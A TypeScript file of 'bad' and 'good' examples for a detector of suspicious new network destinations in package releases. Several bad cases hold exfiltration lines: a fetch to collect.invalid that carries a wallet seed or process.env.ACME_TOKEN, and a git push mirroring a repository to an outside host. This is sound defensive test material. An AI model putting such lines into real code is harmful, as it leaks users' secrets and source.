import type { ReleaseRuleExamples } from '../rule-examples.ts';
import { exchangedConstants } from './destination-added.constants.examples.ts';

const api = to('api.acme.example');

const other = { ...to('www.partner.example'), path: 'other.js' };

const token = { kind: 'environment.read', attributes: { name: 'ACME_TOKEN' } } as const;

function to(destination: string) {
  return {
    kind: 'network.connect',
    attributes: { destination, scheme: 'https', via: 'fetch' },
  } as const;
}

function field(sink: string, name: string) {
  return { kind: 'payload.field', attributes: { field: name, sink } } as const;
}

function sentTo(sink: string) {
  return ['subject', 'text'].map((name) => field(sink, name));
}

const pushed = {
  kind: 'network.address',
  attributes: { destination: 'backup.acme.invalid', scheme: 'https' },
  excerpt: "await git(folder, 'push', '--mirror', 'https://backup.acme.invalid/in.git');",
} as const;

export const examples: ReleaseRuleExamples = {
  bad: [
    ...exchangedConstants.bad,
    {
      why: 'a public ledger is asked for the next stage as soon as the package is loaded',
      severity: 'high',
      old: {},
      new: { can: [{ ...to('api.mainnet-beta.solana.com'), reach: 'import' }] },
    },
    {
      why: 'another tenant of a platform that the package uses',
      severity: 'low',
      old: { can: [to('mine.workers.dev')] },
      new: { can: [to('mine.workers.dev'), to('theirs.workers.dev')] },
    },
    {
      why: 'the host of a call is another one, whatever the version says',
      severity: 'high',
      old: { can: [api] },
      new: { version: '2.0.0', can: [to('api.collect.invalid')] },
    },
    {
      why: 'one of several hosts is another one in the same file',
      severity: 'high',
      old: { can: [api, other] },
      new: { version: '1.1.0', can: [to('api.collect.invalid'), other] },
    },
    {
      why: 'a second host gets what the first one gets',
      severity: 'high',
      old: { can: [api, ...sentTo('api.acme.example')] },
      new: {
        version: '1.1.0',
        can: [
          api,
          ...sentTo('api.acme.example'),
          to('log.collect.invalid'),
          ...sentTo('log.collect.invalid'),
        ],
      },
    },
    {
      why: 'xrpl 4.2.1: a seed goes to a host that nobody knows',
      severity: 'high',
      old: { can: [api] },
      new: {
        version: '1.1.0',
        can: [
          api,
          to('collect.invalid'),
          { kind: 'payload.field', attributes: { field: 'seed', sink: 'collect.invalid' } },
        ],
      },
    },
    {
      why: 'a patch that sends anything to a host that nobody knows',
      severity: 'medium',
      old: { can: [api] },
      new: {
        can: [
          api,
          to('collect.invalid'),
          { kind: 'payload.field', attributes: { field: 'q', sink: 'collect.invalid' } },
        ],
      },
    },
    {
      why: 'a patch that sends a password to a host that nobody knows',
      severity: 'high',
      old: { can: [api] },
      new: {
        can: [to('collect.invalid'), api, field('collect.invalid', 'user.password')],
      },
    },
    {
      why: 'xrpl 4.2.1 as it was: the seed stands in a header',
      severity: 'high',
      old: { can: [api] },
      new: {
        version: '1.1.0',
        can: [
          api,
          {
            ...to('collect.invalid'),
            excerpt:
              "return fetch('https://collect.invalid/xc', { headers: { 'ad-referral': seed } });",
          },
        ],
      },
    },
    {
      why: 'a credential that it always read goes to another host',
      severity: 'high',
      old: { can: [api, token] },
      new: {
        version: '1.1.0',
        can: [
          api,
          token,
          {
            ...to('collect.invalid'),
            excerpt:
              "fetch('https://collect.invalid/v', { headers: { id: process.env.ACME_TOKEN } })",
          },
        ],
      },
    },
    {
      why: 'a bare public address',
      severity: 'high',
      old: { can: [api] },
      new: {
        version: '1.1.0',
        can: [api, to('198.51.100.7')],
      },
    },
    {
      why: 'a collecting service in a patch',
      severity: 'high',
      old: { can: [api] },
      new: { can: [api, to('abc.m.pipedream.net')] },
    },
    {
      why: 'a new host while it is installed',
      severity: 'high',
      old: { can: [api] },
      new: {
        version: '2.0.0',
        can: [
          api,
          {
            kind: 'network.connect',
            attributes: { destination: 'cdn.collect.invalid', scheme: 'https', via: 'https' },
            reach: 'install',
            path: 'setup.js',
          },
        ],
      },
    },
    {
      why: 'a new host at import in a patch',
      severity: 'medium',
      old: { can: [api] },
      new: {
        can: [api, { ...to('collect.invalid'), reach: 'import' }],
      },
    },
    {
      why: 'a first release that calls a tunnel at import',
      severity: 'high',
      new: {
        can: [{ ...to('x.ngrok-free.app'), reach: 'import' }],
      },
    },
    {
      why: 'a repository is pushed to one more place, in a patch',
      severity: 'high',
      old: {},
      new: { can: [pushed] },
    },
  ],
  good: [
    ...exchangedConstants.good,
    {
      why: 'signing in at a service with what it hands out for that',
      atMost: 'medium',
      old: { can: [api, token] },
      new: {
        can: [
          api,
          token,
          {
            ...to('login.partner.invalid'),
            excerpt:
              "fetch('https://login.partner.invalid/token', { body: { client_id: process.env.CLIENT_ID } })",
          },
          ...['api_key', 'client_secret', 'event'].map((one) =>
            field('login.partner.invalid', one),
          ),
        ],
      },
    },
    {
      why: 'a vendor that moves to another name of its own',
      atMost: 'info',
      old: { can: [api] },
      new: { can: [to('eu.acme.example')] },
    },
    {
      why: 'a host that takes the place of one in another file, while others stay',
      atMost: 'low',
      old: { can: [api, other] },
      new: {
        can: [api, { ...to('new.partner.invalid'), path: 'more.js' }],
      },
    },
    {
      why: 'a new API in a minor release, with what it is asked',
      atMost: 'info',
      old: { can: [api] },
      new: {
        version: '1.1.0',
        can: [
          api,
          to('api.maps.example'),
          { kind: 'payload.field', attributes: { field: 'query', sink: 'api.maps.example' } },
        ],
      },
    },
    {
      why: 'a feature in a minor release',
      atMost: 'info',
      old: { can: [api] },
      new: { version: '1.1.0', can: [api, to('api.maps.example')] },
    },
    {
      why: 'another host of the same owner',
      atMost: 'info',
      old: { can: [api] },
      new: {
        can: [api, { ...to('eu.acme.example'), reach: 'import' }],
      },
    },
    {
      why: 'the same host by another function',
      old: { can: [api] },
      new: { can: [{ ...api, attributes: { ...api.attributes, via: 'axios' } }] },
    },
    {
      why: 'this machine and the private network',
      atMost: 'low',
      old: { can: [api] },
      new: {
        can: [api, to('192.168.1.20'), to('127.0.0.1')],
      },
    },
    {
      why: 'a host that the caller chooses',
      old: { can: [api] },
      new: {
        can: [api, to('dynamic')],
      },
    },
    {
      why: 'a first release that talks to its service',
      new: { can: [{ ...api, reach: 'import' }] },
    },
    {
      why: 'a collecting service in a test',
      atMost: 'info',
      old: { can: [api] },
      new: {
        can: [api, { ...to('webhook.site'), reach: 'test-or-docs' }],
      },
    },
  ],
};
